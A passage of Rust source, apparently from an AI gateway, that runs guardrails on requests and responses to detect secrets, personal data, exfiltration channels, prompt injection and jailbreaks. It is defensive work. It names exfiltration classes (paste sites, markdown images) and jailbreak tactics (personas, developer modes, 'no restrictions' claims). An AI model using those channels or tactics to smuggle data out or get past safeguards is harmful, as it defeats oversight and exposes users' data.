//! The governance pipeline: content guardrails on the request and the
//! response path.
//!
//! A [`Pipeline`] is built with each [`crate::gateway::GatewayState`] (at
//! startup and on every control-plane update, never per call). It holds the
//! effective [`Guardrails`] of the static configuration and of every agent
//! whose Compiled Policy the control plane pushed. The detectors' rule set is
//! compiled once per process and shared by every pipeline.
//!
//! Request steps (in order): `tools_denied`, `detect_secrets`, `detect_pii`,
//! `detect_exfil` (then `redact_pii_in_prompt`), `detect_prompt_injection`,
//! `detect_jailbreak` (both from one injection score), `tool_result_scan`, `apply_compiled_policy`, `enforce_no_train` (the last
//! three in [`crate::steps`], which also holds the step registry and
//! `upstream_allowed`). Response steps: `detect_secrets_in_response`,
//! `detect_pii_in_response`, `detect_exfil_in_response`, on whole bodies
//! and, through [`GuardStream`], on streams (exfiltration findings go
//! through the same streaming scanner as secrets and personal data). Each
//! step records one audit fragment; evidence holds rule ids, categories,
//! counts and scores, never a detected value (for exfiltration: the rule id
//! and its class, e.g. `exfil-paste-site` / `paste`, never the URL). A deny
//! short-circuits with a 403; a step that cannot run refuses the call
//! (`guardrail_failed`).
//!
//! ## Configuration (`guardrails:`)
//!
//! | key | step | values (default) |
//! |---|---|---|
//! | `secrets` | `detect_secrets` | block, redact, log, off (`block`) |
//! | `pii` | `detect_pii`, `redact_pii_in_prompt` | (`redact`) |
//! | `injection`, `injection_threshold` | `detect_prompt_injection` | block, log, off (`block`), 0..1 (`0.5`) → 403 `prompt_injection` |
//! | `jailbreak` | `detect_jailbreak` (the persona family's score, same threshold) | block, log, off (the `injection` setting) → 403 `jailbreak` |
//! | `exfil` | `detect_exfil` | block, redact, log, off (`off`) → 403 `exfil_blocked` |
//! | `response_secrets`, `response_pii` | `detect_*_in_response` | (`redact`) |
//! | `response_exfil` | `detect_exfil_in_response` | block, redact, log, off (`off`) → `exfil_blocked` |
//! | `tool_results` | `tool_result_scan` | block, log, off (`off`) → 403 `tool_result_blocked` |
//! | `no_train` | `enforce_no_train` | `true` / `false` (`false`) |
//! | `tools_deny`, `tools` | `tools_denied`, tool-call governance | see [`crate::tool_governance`] |
//!
//! A Compiled Policy overrides these per agent: its `pipeline` steps
//! (`secret_detection`, `pii_detection`, `injection_guard` — which also
//! sets `detect_jailbreak` and `tool_result_scan` —, `exfiltration_guard` per phase,
//! `scan_output`, and the gateway's own step names), `enforce_no_train` as a
//! step or through its `compliance_tags` (`no_train`, any `GDPR:` or
//! `HIPAA:` tag), its `rego` bundle and steps' `rego_entrypoints`
//! (prepared here, once per state: `apply_compiled_policy`, 403
//! `policy_denied`) and `network.allow_domains` (`upstream_allowed`, 403
//! `upstream_not_allowed`).
//!
//! The tool calls the model returns are governed by
//! [`crate::tool_governance`] with the caller's [`Guardrails::tools`]
//! (the `guardrails.tools` config, overridden by the Compiled Policy's
//! `tools`, `capabilities.forbidden` and `tool_guard` / `loop_guard` steps).

use std::collections::{BTreeMap, VecDeque};
use std::sync::{Arc, Mutex, OnceLock};

use bytes::{Bytes, BytesMut};
use serde_json::{json, Map, Value};
use tappass_detectors::{
    redact_window, AllowedValues, Categories, Category, EvidenceKey, Finding, InjectionScore,
    Pseudonyms, RedactMode, RuleSet, StreamScanner,
};

use crate::call_record::CallRecord;
use crate::config::{GuardAction, GuardrailsConfig, RedactionStyle};
use crate::control::PushedPolicy;
use crate::error::GatewayError;
use crate::events::EventInfo;
use crate::relay::{HoldControl, StreamHook, Verdict};
use crate::sse::{encode_event, SseFrame};
use crate::tool_governance::ToolPolicy;
use crate::wire::{Call, Endpoint};
use tappass_policies::compiled::RegoModule;
use tappass_policies::PreparedRego;

/// The process-wide rule sets (compiling one takes seconds in debug
/// builds): without and with the exfiltration rules, which are compiled
/// only when a caller's guardrails use them.
static RULES: OnceLock<Result<RuleSet, String>> = OnceLock::new();
static RULES_WITH_EXFIL: OnceLock<Result<RuleSet, String>> = OnceLock::new();

/// Rule sets built for a configured `allowed_secrets` list, by exfiltration
/// flag and list: a reload with the same list compiles nothing. The last
/// few are kept (states in use hold their own reference).
type AllowingRules = Vec<((bool, Vec<String>), Result<RuleSet, String>)>;
static RULES_ALLOWING: Mutex<AllowingRules> = Mutex::new(Vec::new());
const RULES_ALLOWING_KEPT: usize = 4;

pub(crate) fn shared_rules() -> Result<RuleSet, String> {
    rule_set(false, &[])
}

/// Compile the rule sets a pushed or local policy may need on a background
/// thread at start, so that a policy swap that turns a detector on does not
/// wait for its compile (seconds on a busy machine).
pub fn warm_rules_in_background() {
    let _ = std::thread::Builder::new()
        .name("tappass-rules-compile".into())
        .spawn(|| {
            let _ = rule_set(false, &[]);
            let _ = rule_set(true, &[]);
        });
}

/// The gateway scores injection on its own ([`RuleSet::score_injection`])
/// and never reads injection findings from a scan, so its scans leave the
/// injection phrases out.
fn categories(exfil: bool) -> Categories {
    Categories {
        pii: true,
        secrets: true,
        injection: true,
        exfil,
        injection_scoring_only: true,
    }
}

fn rule_set(exfil: bool, allowed: &[String]) -> Result<RuleSet, String> {
    if !allowed.is_empty() {
        let mut cache = RULES_ALLOWING.lock().unwrap_or_else(|e| e.into_inner());
        if let Some((_, r)) = cache
            .iter()
            .find(|((x, list), _)| *x == exfil && list == allowed)
        {
            return r.clone();
        }
        let built = RuleSet::builtin_allowing(
            &categories(exfil),
            EvidenceKey::random(),
            AllowedValues::from_values(allowed),
        )
        .map_err(|e| e.to_string());
        if cache.len() >= RULES_ALLOWING_KEPT {
            drop(cache.remove(0));
        }
        cache.push(((exfil, allowed.to_vec()), built.clone()));
        return built;
    }
    let cell = if exfil { &RULES_WITH_EXFIL } else { &RULES };
    cell.get_or_init(|| RuleSet::builtin(&categories(exfil)).map_err(|e| e.to_string()))
        .clone()
}

/// One step's setting and where it came from.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct StepSetting {
    pub action: GuardAction,
    pub provenance: &'static str,
}

const FROM_CONFIG: &str = "config:guardrails";
const FROM_POLICY: &str = "policy:pipeline";

/// The effective guardrails of one caller.
#[derive(Clone)]
pub struct Guardrails {
    pub secrets: StepSetting,
    pub pii: StepSetting,
    pub injection: StepSetting,
    pub injection_threshold: f32,
    /// `detect_jailbreak`: the jailbreak families of the injection score.
    pub jailbreak: StepSetting,
    pub mode: RedactMode,
    pub response_secrets: StepSetting,
    pub response_pii: StepSetting,
    pub tools_deny: Vec<String>,
    pub tools_provenance: &'static str,
    /// Governance of the tool calls the model emits.
    pub tools: ToolPolicy,
    /// `detect_exfil` on the prompt.
    pub exfil: StepSetting,
    /// `detect_exfil_in_response`.
    pub response_exfil: StepSetting,
    /// `tool_result_scan` (block or log).
    pub tool_results: StepSetting,
    /// `enforce_no_train`: where the request came from, when on.
    pub no_train: Option<&'static str>,
    /// The agent's Rego entry points, prepared once per state
    /// (`apply_compiled_policy`).
    pub rego: Option<Arc<PreparedRego>>,
    /// The agent's `network.allow_domains` (`upstream_allowed`).
    pub allow_domains: Option<Vec<String>>,
    rules: RuleSet,
    /// `rules` holds the exfiltration rules.
    rules_exfil: bool,
    /// `guardrails.allowed_secrets`: values `rules` do not report.
    allowed_secrets: Vec<String>,
}

fn on(s: StepSetting) -> bool {
    s.action != GuardAction::Off
}

impl Guardrails {
    pub(crate) fn from_config(c: &GuardrailsConfig, rules: RuleSet) -> Result<Guardrails, String> {
        let rules = if c.allowed_secrets.is_empty() {
            rules
        } else {
            rule_set(false, &c.allowed_secrets).map_err(|e| format!("detector rules: {e}"))?
        };
        let s = |action| StepSetting {
            action,
            provenance: FROM_CONFIG,
        };
        let mut tools_deny = c.tools_deny.clone();
        for d in c.tools.iter().flat_map(|t| t.deny.iter()) {
            if !tools_deny.contains(d) {
                tools_deny.push(d.clone());
            }
        }
        Ok(Guardrails {
            secrets: s(c.secrets),
            pii: s(c.pii),
            injection: s(c.injection),
            injection_threshold: c.injection_threshold,
            jailbreak: s(c.jailbreak.unwrap_or(c.injection)),
            mode: match c.redaction {
                RedactionStyle::Mask => RedactMode::Mask,
                RedactionStyle::Pseudonym => RedactMode::Pseudonym,
                RedactionStyle::Partial => RedactMode::Partial,
            },
            response_secrets: s(c.response_secrets),
            response_pii: s(c.response_pii),
            tools_deny,
            tools_provenance: FROM_CONFIG,
            tools: ToolPolicy::from_config(c.tools.as_ref())?,
            exfil: s(c.exfil),
            response_exfil: s(c.response_exfil),
            tool_results: s(c.tool_results),
            no_train: c.no_train.then_some(FROM_CONFIG),
            rego: None,
            allow_domains: None,
            rules,
            rules_exfil: false,
            allowed_secrets: c.allowed_secrets.clone(),
        })
    }

    /// Switch to the rule set with the exfiltration rules when a step uses
    /// them (once per state, never per call).
    fn load_exfil_rules(&mut self) -> Result<(), String> {
        if (on(self.exfil) || on(self.response_exfil)) && !self.rules_exfil {
            self.rules = rule_set(true, &self.allowed_secrets)
                .map_err(|e| format!("detector rules: {e}"))?;
            self.rules_exfil = true;
        }
        Ok(())
    }

    /// The detectors' rule set.
    pub(crate) fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// Apply a Compiled Policy document: each pipeline step it lists sets
    /// the action of the matching guardrail; `tools.deny` adds patterns.
    pub(crate) fn apply_policy(&mut self, document: &str) -> Result<(), String> {
        let doc: Value = serde_json::from_str(document)
            .map_err(|e| format!("the compiled policy is not valid JSON: {e}"))?;
        // The control plane pushes the signed document `{payload, signature}`
        // (its transport envelope is already verified); a bare Compiled
        // Policy is accepted too.
        let doc = doc.get("payload").filter(|p| p.is_object()).unwrap_or(&doc);
        let steps = doc
            .get("pipeline")
            .and_then(Value::as_array)
            .ok_or("the compiled policy has no `pipeline` list")?;
        for s in steps {
            let name = s.get("step").and_then(Value::as_str).unwrap_or_default();
            let action = match s.get("action").and_then(Value::as_str) {
                Some("block") => GuardAction::Block,
                Some("redact") => GuardAction::Redact,
                Some("log") | Some("notify") => GuardAction::Log,
                other => return Err(format!("step `{name}` has an unknown action {other:?}")),
            };
            let set = StepSetting {
                action,
                provenance: FROM_POLICY,
            };
            let phases: Vec<&str> = s
                .get("phases")
                .and_then(Value::as_array)
                .map(|p| p.iter().filter_map(Value::as_str).collect())
                .unwrap_or_default();
            let on = |phase: &str| phases.is_empty() || phases.contains(&phase);
            match name {
                // The policy engine's step registry names.
                "secret_detection" => {
                    if on("request") {
                        self.secrets = set;
                    }
                    if on("response") {
                        self.response_secrets = set;
                    }
                }
                "pii_detection" => {
                    if on("request") {
                        self.pii = set;
                    }
                    if on("response") {
                        self.response_pii = set;
                    }
                }
                "injection_guard" => {
                    // Prompt injection and jailbreak detection on input and
                    // tool results.
                    let set = StepSetting {
                        action: if action == GuardAction::Redact {
                            GuardAction::Block
                        } else {
                            action
                        },
                        provenance: FROM_POLICY,
                    };
                    self.injection = set;
                    self.jailbreak = set;
                    self.tool_results = set;
                }
                "exfiltration_guard" => {
                    if on("request") && !phases.is_empty() {
                        self.exfil = set;
                    }
                    if on("response") {
                        self.response_exfil = set;
                    }
                }
                "detect_exfil" => self.exfil = set,
                "detect_exfil_in_response" => self.response_exfil = set,
                "tool_result_scan" => {
                    self.tool_results = StepSetting {
                        action: if action == GuardAction::Redact {
                            GuardAction::Block
                        } else {
                            action
                        },
                        provenance: FROM_POLICY,
                    };
                }
                "enforce_no_train" => self.no_train = Some(FROM_POLICY),
                "detect_secrets" => self.secrets = set,
                "detect_pii" | "redact_pii_in_prompt" => self.pii = set,
                "detect_jailbreak" => {
                    // A jailbreak cannot be redacted: redact means block.
                    self.jailbreak = StepSetting {
                        action: if action == GuardAction::Redact {
                            GuardAction::Block
                        } else {
                            action
                        },
                        provenance: FROM_POLICY,
                    };
                }
                "detect_prompt_injection" => {
                    // An injection cannot be redacted: redact means block.
                    self.injection = StepSetting {
                        action: if action == GuardAction::Redact {
                            GuardAction::Block
                        } else {
                            action
                        },
                        provenance: FROM_POLICY,
                    };
                }
                "scan_output" => {
                    self.response_secrets = set;
                    self.response_pii = set;
                }
                "detect_secrets_in_response" => self.response_secrets = set,
                "detect_pii_in_response" => self.response_pii = set,
                "tools_denied" => self.tools_provenance = FROM_POLICY,
                _ => {}
            }
        }
        if let Some(tags) = doc.get("compliance_tags").and_then(Value::as_array) {
            let asks = tags.iter().filter_map(Value::as_str).any(no_train_tag);
            if asks && self.no_train.is_none() {
                self.no_train = Some(FROM_TAGS);
            }
        }
        if let Some(domains) = doc.pointer("/network/allow_domains") {
            match domains {
                Value::Null => {}
                Value::Array(a) => {
                    let list = a
                        .iter()
                        .map(|d| d.as_str().map(str::to_owned))
                        .collect::<Option<Vec<String>>>()
                        .ok_or("`network.allow_domains` holds a non-string")?;
                    self.allow_domains = Some(list);
                }
                _ => return Err("`network.allow_domains` is not a list".into()),
            }
        }
        self.rego = prepare_rego(doc)?.map(Arc::new);
        if let Some(deny) = doc.pointer("/tools/deny").and_then(Value::as_array) {
            for d in deny {
                let p = d.as_str().ok_or("`tools.deny` holds a non-string")?;
                if !self.tools_deny.iter().any(|x| x == p) {
                    self.tools_deny.push(p.to_string());
                    self.tools_provenance = FROM_POLICY;
                }
            }
        }
        self.tools.apply_policy(doc)
    }

    /// Whether any response step runs.
    pub fn checks_responses(&self) -> bool {
        on(self.response_secrets) || on(self.response_pii) || on(self.response_exfil)
    }

    fn response_action(&self, c: Category) -> GuardAction {
        match c {
            Category::Secret => self.response_secrets.action,
            Category::Pii => self.response_pii.action,
            Category::Exfil => self.response_exfil.action,
            _ => GuardAction::Off,
        }
    }
}

const FROM_TAGS: &str = "policy:compliance_tags";

/// Compliance tags that ask providers not to keep or train on calls: the
/// explicit `no_train`, and the GDPR and HIPAA packs' tags (data
/// minimisation; no secondary use of protected data).
fn no_train_tag(tag: &str) -> bool {
    tag == "no_train" || tag.starts_with("GDPR:") || tag.starts_with("HIPAA:")
}

/// Prepare the Rego entry points of a Compiled Policy document (its
/// `rego.entrypoints` and every step's `rego_entrypoints`), once per state.
/// `None` when it has none.
fn prepare_rego(doc: &Value) -> Result<Option<PreparedRego>, String> {
    let Some(rego) = doc.get("rego").filter(|r| !r.is_null()) else {
        return Ok(None);
    };
    let modules: Vec<RegoModule> = match rego.get("modules") {
        None | Some(Value::Null) => Vec::new(),
        Some(m) => serde_json::from_value(m.clone())
            .map_err(|e| format!("`rego.modules` is not valid: {e}"))?,
    };
    let mut entrypoints: Vec<String> = Vec::new();
    let named = rego
        .get("entrypoints")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .chain(
            doc.get("pipeline")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(|s| s.get("rego_entrypoints").and_then(Value::as_array))
                .flatten(),
        );
    for ep in named {
        let ep = ep.as_str().ok_or("a Rego entry point is not a string")?;
        if !entrypoints.iter().any(|e| e == ep) {
            entrypoints.push(ep.to_string());
        }
    }
    if entrypoints.is_empty() {
        return Ok(None);
    }
    let data = json!({"policy": {
        "identity": doc.get("identity").cloned().unwrap_or(Value::Null),
        "tools": doc.get("tools").cloned().unwrap_or(Value::Null),
        "network": doc.get("network").cloned().unwrap_or(Value::Null),
        "budget": doc.get("budget").cloned().unwrap_or(Value::Null),
    }});
    PreparedRego::from_modules(&modules, &entrypoints, &data)
        .map(Some)
        .map_err(|e| format!("the policy's Rego cannot be prepared: {e}"))
}

/// The guardrails of one gateway state.
#[derive(Default)]
pub struct Pipeline {
    base: Option<Arc<Guardrails>>,
    agents: BTreeMap<String, Result<Arc<Guardrails>, String>>,
}

impl Pipeline {
    /// Build the pipeline for a configuration and the pushed policies. The
    /// rule set is compiled on first use in the process, not per state.
    pub fn build(
        config: Option<&GuardrailsConfig>,
        policies: &BTreeMap<String, PushedPolicy>,
    ) -> Result<Pipeline, String> {
        if config.is_none() && policies.is_empty() {
            return Ok(Pipeline::default());
        }
        let rules = shared_rules().map_err(|e| format!("detector rules: {e}"))?;
        let base = match config {
            Some(c) => {
                let mut g = Guardrails::from_config(c, rules.clone())?;
                g.load_exfil_rules()?;
                Some(Arc::new(g))
            }
            None => None,
        };
        let mut agents = BTreeMap::new();
        for (agent, p) in policies {
            let r = Guardrails::from_config(
                config.unwrap_or(&GuardrailsConfig::all_off()),
                rules.clone(),
            )
            .and_then(|mut g| {
                g.apply_policy(&p.document)?;
                g.load_exfil_rules()?;
                Ok(Arc::new(g))
            });
            agents.insert(agent.clone(), r);
        }
        Ok(Pipeline { base, agents })
    }

    /// The guardrails of `agent`: `None` when nothing is configured for it,
    /// `Some(Err)` when its pushed policy cannot be applied (fail closed).
    pub fn for_agent(&self, agent: &str) -> Option<Result<Arc<Guardrails>, String>> {
        match self.agents.get(agent) {
            Some(r) => Some(r.clone()),
            None => self.base.clone().map(Ok),
        }
    }
}

/// Redactions per category, for the `x-tappass-redactions` header.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Redactions(pub BTreeMap<&'static str, usize>);

impl Redactions {
    fn add(&mut self, c: Category, n: usize) {
        if n > 0 {
            *self.0.entry(c.as_str()).or_insert(0) += n;
        }
    }
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
    /// `pii=2,secret=1`
    pub fn header_value(&self) -> String {
        self.0
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join(",")
    }
}

// ---- walking the text of a JSON body ----

/// Top-level request fields that hold prompt text.
const PROMPT_ROOTS: &[&str] = &["messages", "system", "instructions", "input", "prompt"];
/// Fields below them that hold text (message contents, content parts, tool
/// results).
const PROMPT_FIELDS: &[&str] = &["content", "text", "output"];
/// Fields of a response body (and of full-text stream events) that lead to
/// or hold output text.
const OUTPUT_FIELDS: &[&str] = &[
    "choices",
    "message",
    "content",
    "text",
    "output",
    "output_text",
    "part",
    "item",
    "response",
];

/// Visit every string reached from `v` through `fields`.
fn visit<E>(
    v: &mut Value,
    fields: &[&str],
    f: &mut impl FnMut(&mut String) -> Result<(), E>,
) -> Result<(), E> {
    match v {
        Value::String(s) => f(s),
        Value::Array(a) => a.iter_mut().try_for_each(|x| visit(x, fields, f)),
        Value::Object(m) => m
            .iter_mut()
            .filter(|(k, _)| fields.contains(&k.as_str()))
            .try_for_each(|(_, x)| visit(x, fields, f)),
        _ => Ok(()),
    }
}

fn visit_prompt<E>(
    body: &mut Map<String, Value>,
    f: &mut impl FnMut(&mut String) -> Result<(), E>,
) -> Result<(), E> {
    for root in PROMPT_ROOTS {
        if let Some(v) = body.get_mut(*root) {
            visit(v, PROMPT_FIELDS, f)?;
        }
    }
    Ok(())
}

/// The exfiltration classes (`paste`, `markdown-image`, …) of findings.
fn families(findings: &[&Finding]) -> Vec<String> {
    let mut f: Vec<String> = findings
        .iter()
        .filter_map(|f| f.family.as_deref().map(str::to_owned))
        .collect();
    f.sort();
    f.dedup();
    f
}

fn rule_ids(findings: &[&Finding]) -> Vec<String> {
    let mut ids: Vec<String> = findings.iter().map(|f| f.rule_id.to_string()).collect();
    ids.sort();
    ids.dedup();
    ids
}

fn failed(rec: &mut CallRecord, step: &'static str, reason: String) -> GatewayError {
    rec.step(
        step,
        "error",
        "content",
        "detectors",
        json!({"error": "guardrail_failed"}),
    );
    GatewayError::GuardrailFailed { step, reason }
}

fn denied(code: &'static str, reason: String) -> GatewayError {
    GatewayError::GuardrailDenied { code, reason }
}

fn decision(action: GuardAction, found: usize) -> &'static str {
    match (found, action) {
        (0, _) => "allow",
        (_, GuardAction::Block) => "deny",
        (_, GuardAction::Redact) => "redact",
        _ => "log",
    }
}

/// Remove tool definitions whose name matches a denied pattern.
fn tools_denied(g: &Guardrails, call: &mut Call, rec: &mut CallRecord) {
    if g.tools_deny.is_empty() {
        return;
    }
    // A tool is known by its name and by its catalog id (`gmail_send` is
    // `gmail.send`).
    let (total, removed) = remove_offered_tools(call, |n| {
        let id = g.tools.resolve(n).map(|t| t.id.as_str());
        std::iter::once(n).chain(id).any(|n| {
            g.tools_deny
                .iter()
                .any(|p| crate::providers::glob_match(p, n))
        })
    });
    let (decision, evidence) = if removed.is_empty() {
        ("allow", json!({"tools": total}))
    } else {
        ("redact", json!({"removed": removed, "tools": total}))
    };
    rec.step(
        "tools_denied",
        decision,
        "tools",
        g.tools_provenance,
        evidence,
    );
}

/// Remove the tool definitions of the request whose name `remove` selects.
/// Returns how many were offered and the names removed. A forced choice of
/// a removed tool goes too (the upstream would refuse it).
pub(crate) fn remove_offered_tools(
    call: &mut Call,
    remove: impl Fn(&str) -> bool,
) -> (usize, Vec<String>) {
    let name_of = |t: &Value| -> Option<String> {
        t.get("name")
            .or_else(|| t.pointer("/function/name"))
            .and_then(Value::as_str)
            .map(str::to_owned)
    };
    let removed_name = |t: &Value| name_of(t).filter(|n| remove(n));
    let Some(tools) = call.body().get("tools").and_then(Value::as_array) else {
        return (0, Vec::new());
    };
    let total = tools.len();
    let removed: Vec<String> = tools.iter().filter_map(removed_name).collect();
    if removed.is_empty() {
        return (total, removed);
    }
    let body = call.body_mut();
    if let Some(Value::Array(tools)) = body.get_mut("tools") {
        tools.retain(|t| removed_name(t).is_none());
        if tools.is_empty() {
            body.remove("tools");
            body.remove("tool_choice");
        }
    }
    let forced = body
        .get("tool_choice")
        .and_then(|c| c.get("name").or_else(|| c.pointer("/function/name")))
        .and_then(Value::as_str)
        .is_some_and(|n| removed.iter().any(|r| r == n));
    if forced {
        body.remove("tool_choice");
    }
    (total, removed)
}

/// The effective guardrails of a caller that has none but whose capability
/// token scopes its tools: every step off, so that only the token's scope
/// governs the tool calls (built once per process, on the shared rule set).
pub fn scope_only_guardrails() -> Result<Arc<Guardrails>, String> {
    static SCOPE_ONLY: OnceLock<Result<Arc<Guardrails>, String>> = OnceLock::new();
    SCOPE_ONLY
        .get_or_init(|| {
            let rules = rule_set(false, &[])?;
            let mut g = Guardrails::from_config(&GuardrailsConfig::all_off(), rules)?;
            g.tools.action = GuardAction::Off;
            Ok(Arc::new(g))
        })
        .clone()
}

/// Run the request steps on `call`. Redactions rewrite the body that is
/// sent upstream.
pub fn run_request(
    g: &Guardrails,
    call: &mut Call,
    rec: &mut CallRecord,
) -> Result<Redactions, GatewayError> {
    tools_denied(g, call, rec);
    let mut redactions = Redactions::default();
    let scan_content = on(g.secrets) || on(g.pii) || on(g.exfil);
    let mut per_string: Vec<Vec<Finding>> = Vec::new();
    let mut texts_for_injection = String::new();
    {
        // Read-only walk (the visitor is shared with the rewrite).
        let body = call.body_for_walk();
        let rules = &g.rules;
        let mut scan_err = None;
        let _ = visit_prompt(body, &mut |s: &mut String| -> Result<(), ()> {
            if scan_content {
                match rules.scan(s) {
                    Ok(f) => per_string.push(
                        f.into_iter()
                            .filter(|f| {
                                matches!(
                                    f.category,
                                    Category::Secret | Category::Pii | Category::Exfil
                                )
                            })
                            .collect(),
                    ),
                    Err(e) => {
                        scan_err = Some(e.to_string());
                        return Err(());
                    }
                }
            }
            if on(g.injection) || on(g.jailbreak) {
                texts_for_injection.push_str(s);
                texts_for_injection.push('\n');
            }
            Ok(())
        });
        if let Some(e) = scan_err {
            let step = if on(g.secrets) {
                "detect_secrets"
            } else {
                "detect_pii"
            };
            return Err(failed(rec, step, e));
        }
    }
    let all: Vec<&Finding> = per_string.iter().flatten().collect();
    for (cat, setting, step, code) in [
        (
            Category::Secret,
            g.secrets,
            "detect_secrets",
            "secret_blocked",
        ),
        (Category::Pii, g.pii, "detect_pii", "pii_blocked"),
        (Category::Exfil, g.exfil, "detect_exfil", "exfil_blocked"),
    ] {
        if !on(setting) {
            continue;
        }
        let found: Vec<&Finding> = all.iter().copied().filter(|f| f.category == cat).collect();
        let d = decision(setting.action, found.len());
        let mut evidence = json!({"count": found.len(), "rules": rule_ids(&found)});
        if cat == Category::Exfil {
            evidence["categories"] = json!(families(&found));
        }
        rec.step(step, d, "content", setting.provenance, evidence);
        if d == "deny" {
            return Err(denied(
                code,
                format!(
                    "the request contains {} ({}); remove it and retry",
                    match cat {
                        Category::Secret => "a secret",
                        Category::Exfil => "an exfiltration channel",
                        _ => "personal data",
                    },
                    rule_ids(&found).join(", ")
                ),
            ));
        }
    }
    let redact_cat = |c: Category| match c {
        Category::Secret => g.secrets.action == GuardAction::Redact,
        Category::Pii => g.pii.action == GuardAction::Redact,
        Category::Exfil => g.exfil.action == GuardAction::Redact,
        _ => false,
    };
    let to_redact = all.iter().filter(|f| redact_cat(f.category)).count();
    if to_redact > 0 {
        let mut pseudonyms = Pseudonyms::new();
        let mut i = 0;
        let _ = visit_prompt(call.body_mut(), &mut |s: &mut String| -> Result<(), ()> {
            if let Some(fs) = per_string.get(i) {
                let fs: Vec<Finding> = fs
                    .iter()
                    .filter(|f| redact_cat(f.category))
                    .cloned()
                    .collect();
                if !fs.is_empty() {
                    *s = redact_window(s, 0, &fs, g.mode, &mut pseudonyms);
                }
            }
            i += 1;
            Ok(())
        });
        for f in all.iter().filter(|f| redact_cat(f.category)) {
            redactions.add(f.category, 1);
        }
        if g.pii.action == GuardAction::Redact {
            rec.step(
                "redact_pii_in_prompt",
                "redact",
                "content",
                g.pii.provenance,
                json!({"redacted": &redactions.0}),
            );
        }
    }
    if on(g.injection) || on(g.jailbreak) {
        let step = if on(g.injection) {
            "detect_prompt_injection"
        } else {
            "detect_jailbreak"
        };
        let score = g
            .rules
            .score_injection(&texts_for_injection)
            .map_err(|e| failed(rec, step, e.to_string()))?;
        detect_prompt_injection(g, &score, rec)?;
        detect_jailbreak(g, &score, rec)?;
    }
    crate::steps::tool_result_scan(g, call, rec)?;
    crate::steps::apply_compiled_policy(g, call, rec)?;
    crate::steps::enforce_no_train(g, call, rec);
    Ok(redactions)
}

/// `detect_prompt_injection`: the whole injection score of the prompt.
fn detect_prompt_injection(
    g: &Guardrails,
    score: &InjectionScore,
    rec: &mut CallRecord,
) -> Result<(), GatewayError> {
    if on(g.injection) {
        let hit = score.exceeds(g.injection_threshold);
        let d = decision(g.injection.action, usize::from(hit));
        rec.step(
            "detect_prompt_injection",
            d,
            "content",
            g.injection.provenance,
            json!({"score": score.score, "threshold": g.injection_threshold,
                "families": score.families.keys().map(|k| k.to_string()).collect::<Vec<_>>(),
                "rules": score.rules.iter().map(|r| r.to_string()).collect::<Vec<_>>()}),
        );
        if d == "deny" {
            return Err(denied(
                "prompt_injection",
                format!(
                    "the request looks like a prompt injection (score {:.2}, threshold {:.2})",
                    score.score, g.injection_threshold
                ),
            ));
        }
    }
    Ok(())
}

/// `detect_jailbreak`: the score of the jailbreak families alone (personas,
/// developer modes, "no restrictions" claims), on the same threshold.
fn detect_jailbreak(
    g: &Guardrails,
    score: &InjectionScore,
    rec: &mut CallRecord,
) -> Result<(), GatewayError> {
    if !on(g.jailbreak) {
        return Ok(());
    }
    let jailbreak = score.jailbreak_score();
    let hit = jailbreak >= g.injection_threshold;
    let d = decision(g.jailbreak.action, usize::from(hit));
    rec.step(
        "detect_jailbreak",
        d,
        "content",
        g.jailbreak.provenance,
        json!({"score": jailbreak, "threshold": g.injection_threshold,
            "families": tappass_detectors::JAILBREAK_FAMILIES,
            "rules": score.jailbreak_rules.iter().map(|r| r.to_string()).collect::<Vec<_>>()}),
    );
    if d == "deny" {
        return Err(denied(
            "jailbreak",
            format!(
                "the request looks like a jailbreak (score {jailbreak:.2}, threshold {:.2})",
                g.injection_threshold
            ),
        ));
    }
    Ok(())
}

/// Scan the strings of `v` reached through [`OUTPUT_FIELDS`] and redact
/// (in place) what the response steps redact. Returns the findings per
/// category and the ids of the rules that matched.
fn scan_output_value(
    g: &Guardrails,
    v: &mut Value,
    pseudonyms: &mut Pseudonyms,
) -> Result<OutputScan, String> {
    let mut out = OutputScan::default();
    visit(
        v,
        OUTPUT_FIELDS,
        &mut |s: &mut String| -> Result<(), String> {
            let found = g.rules.scan(s).map_err(|e| e.to_string())?;
            let mut redact = Vec::new();
            for f in found {
                let action = g.response_action(f.category);
                if action == GuardAction::Off {
                    continue;
                }
                *out.counts.entry(f.category).or_insert(0) += 1;
                out.rules
                    .push((f.category, f.rule_id.to_string(), f.family.clone()));
                if action == GuardAction::Redact {
                    out.redactions.add(f.category, 1);
                    redact.push(f);
                }
            }
            if !redact.is_empty() {
                *s = redact_window(s, 0, &redact, g.mode, pseudonyms);
            }
            Ok(())
        },
    )?;
    Ok(out)
}

#[derive(Default)]
struct OutputScan {
    counts: BTreeMap<Category, usize>,
    rules: Vec<FoundRule>,
    redactions: Redactions,
}

/// A finding's category, rule id and class (never its value).
type FoundRule = (Category, String, Option<Arc<str>>);

fn record_response_steps(
    g: &Guardrails,
    rec: &mut CallRecord,
    counts: &BTreeMap<Category, usize>,
    rules: &[FoundRule],
    extra: Value,
) -> Option<GatewayError> {
    let mut deny = None;
    for (cat, setting, step, code) in [
        (
            Category::Secret,
            g.response_secrets,
            "detect_secrets_in_response",
            "secret_blocked",
        ),
        (
            Category::Pii,
            g.response_pii,
            "detect_pii_in_response",
            "pii_blocked",
        ),
        (
            Category::Exfil,
            g.response_exfil,
            "detect_exfil_in_response",
            "exfil_blocked",
        ),
    ] {
        if !on(setting) {
            continue;
        }
        let n = counts.get(&cat).copied().unwrap_or(0);
        let d = decision(setting.action, n);
        let mut ids: Vec<&String> = rules
            .iter()
            .filter(|(c, _, _)| *c == cat)
            .map(|(_, id, _)| id)
            .collect();
        ids.sort();
        ids.dedup();
        let mut ev = json!({"count": n, "rules": ids});
        if cat == Category::Exfil {
            let mut fams: Vec<&str> = rules
                .iter()
                .filter(|(c, _, _)| *c == cat)
                .filter_map(|(_, _, f)| f.as_deref())
                .collect();
            fams.sort();
            fams.dedup();
            ev["categories"] = json!(fams);
        }
        if let (Value::Object(e), Value::Object(x)) = (&mut ev, &extra) {
            e.extend(x.clone());
        }
        rec.step(step, d, "content", setting.provenance, ev);
        if d == "deny" && deny.is_none() {
            deny = Some(denied(
                code,
                format!(
                    "the response contained {} and was withheld",
                    category_phrase(cat)
                ),
            ));
        }
    }
